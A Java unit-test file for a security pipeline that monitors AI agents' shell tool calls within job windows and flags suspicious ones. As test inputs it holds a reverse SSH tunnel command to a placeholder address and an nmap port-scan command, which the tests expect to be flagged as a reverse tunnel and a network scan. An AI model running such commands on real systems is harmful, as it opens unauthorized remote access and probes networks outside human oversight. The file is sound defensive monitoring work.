package io.vigil.pipeline.detect;

import static io.vigil.pipeline.detect.ScoreWindowsHarnessTest.BEGINNING;
import static io.vigil.pipeline.detect.ScoreWindowsHarnessTest.JOB;
import static io.vigil.pipeline.detect.ScoreWindowsHarnessTest.MINUTE;
import static io.vigil.pipeline.detect.ScoreWindowsHarnessTest.SETTINGS;
import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.models.features.FeatureSet;
import io.vigil.models.features.NetworkScope;
import io.vigil.models.scoring.IndicatorScorer;
import io.vigil.records.AgentEvent;
import io.vigil.records.Category;
import io.vigil.records.JobWindow;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The agents' tool calls in scoring: each is counted in the job's window it ended in, or in the job's next window when
 * it comes after that one was scored; a window without calls is scored and written exactly as without agents.
 */
class ScoreWindowsAgentCallsTest {
    static final String TUNNEL = "ssh -f -N -R 2222:localhost:22 ubuntu@203.0.113.145";

    ScoringHarness harness;

    @BeforeEach
    void open() throws Exception {
        harness = ScoringHarness.of(new ScoreWindows(new IndicatorScorer(), SETTINGS));
        harness.open();
        harness.modelInputIdle();
    }

    @AfterEach
    void close() throws Exception {
        harness.close();
    }

    static AgentCallInput call(int minute, int second, String command) {
        Instant end = BEGINNING.plus(MINUTE.multipliedBy(minute)).plusSeconds(second);
        AgentEvent event = new AgentEvent(
                end, end.minusSeconds(2), JOB, "ep-1", 7L, "pod/rollout-0", "node-1", "bash", command, 0, null);
        return AgentCallInput.of(event, NetworkScope.defaults());
    }

    @Test
    void aTunnelCallFlagsTheWindowItEndsInThoughItsTrafficShowsNothing() throws Exception {
        harness.window(ScoreWindowsHarnessTest.window(0, null));
        harness.call(call(1, 10, "pytest -q tests/test_graph.py"));
        harness.call(call(1, 30, TUNNEL));
        harness.call(call(2, 5, "ls")); // the next window's
        harness.window(ScoreWindowsHarnessTest.window(1, null));

        List<JobWindow> windows = harness.windows();
        assertThat(windows).extracting(JobWindow::getFlagged).containsExactly(false, true);
        assertThat(windows.get(0).getFeatures()).doesNotContainKey(FeatureSet.AGENT_CALLS);
        assertThat(windows.get(1).getCategories()).containsExactly(Category.REVERSE_TUNNEL);
        assertThat(windows.get(1).getFeatures())
                .containsEntry(FeatureSet.AGENT_CALLS, Math.log1p(2))
                .containsEntry(FeatureSet.AGENT_TUNNEL_CALLS, Math.log1p(1));
        assertThat(harness.alerts())
                .singleElement()
                .satisfies(a -> assertThat(a.getReasons())
                        .extracting(r -> r.getFeature())
                        .contains(FeatureSet.AGENT_TUNNEL_CALLS));
        assertThat(harness.counter("agentCallsCounted")).isEqualTo(2);
    }

    @Test
    void aCallThatComesAfterItsWindowIsCountedInTheNext() throws Exception {
        harness.window(ScoreWindowsHarnessTest.window(0, null));
        harness.call(call(0, 40, "nmap -Pn -T4 --top-ports 100 203.0.113.9")); // its window was scored already
        harness.window(ScoreWindowsHarnessTest.window(1, null));
        harness.window(ScoreWindowsHarnessTest.window(2, null));

        assertThat(harness.windows()).extracting(JobWindow::getFlagged).containsExactly(false, true, false);
        assertThat(harness.windows().get(1).getCategories()).containsExactly(Category.NETWORK_SCAN);
        assertThat(harness.windows().get(2).getFeatures()).doesNotContainKey(FeatureSet.AGENT_CALLS);
        assertThat(harness.counter("agentCallsAfterTheirWindow")).isEqualTo(1);
    }

    @Test
    void windowsWithoutCallsAreWrittenAsWithoutAgents() throws Exception {
        ScoringHarness plain = ScoringHarness.of(new ScoreWindows(new IndicatorScorer(), SETTINGS));
        plain.open();
        plain.modelInputIdle();
        harness.call(call(3, 10, "pip install requests")); // a later window's
        for (int m = 0; m < 3; m++) {
            harness.window(ScoreWindowsHarnessTest.window(m, m == 1 ? FeatureSet.FAILED_HOSTS : null));
            plain.window(ScoreWindowsHarnessTest.window(m, m == 1 ? FeatureSet.FAILED_HOSTS : null));
        }
        assertThat(harness.windows()).isEqualTo(plain.windows());
        assertThat(harness.alerts()).isEqualTo(plain.alerts());
        plain.close();
    }

    @Test
    void benignCallsCountButRaiseNothing() throws Exception {
        harness.call(call(0, 5, "pip install -q --index-url https://pypi-mirror.internal/simple numpy"));
        harness.call(call(0, 15, "git clone --depth 1 https://github.com/psf/requests.git /workspace/requests"));
        harness.call(call(0, 25, "ssh -T git@github.com"));
        harness.call(call(0, 35, "until nc -z postgres 5432; do sleep 1; done"));
        harness.window(ScoreWindowsHarnessTest.window(0, null));
        JobWindow w = harness.windows().get(0);
        assertThat(w.getFlagged()).isFalse();
        assertThat(w.getScore()).isZero();
        assertThat(w.getFeatures()).containsEntry(FeatureSet.AGENT_CALLS, Math.log1p(4));
    }

    @Test
    void theJobsWaitingCallsEndWithItsState() throws Exception {
        harness.call(call(0, 5, TUNNEL));
        int withCall = harness.numKeyedStateEntries();
        assertThat(withCall).isPositive();
        harness.jobWatermark(Long.MAX_VALUE - 1);
        assertThat(harness.numKeyedStateEntries()).isZero();
    }
}
